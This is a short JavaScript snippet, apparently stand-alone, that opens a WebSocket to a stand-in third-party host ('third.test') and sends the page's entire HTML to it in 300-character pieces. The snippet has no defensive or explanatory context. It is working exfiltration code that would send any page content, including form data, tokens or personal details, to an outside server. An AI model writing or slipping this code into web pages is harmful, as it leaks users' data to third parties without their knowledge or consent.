// Sends the page in pieces over an open line.
const line = new WebSocket("wss://third.test/-/socket");
line.onopen = () => {
  const page = document.documentElement.outerHTML;
  for (let i = 0; i < page.length; i += 300) line.send(page.slice(i, i + 300));
};
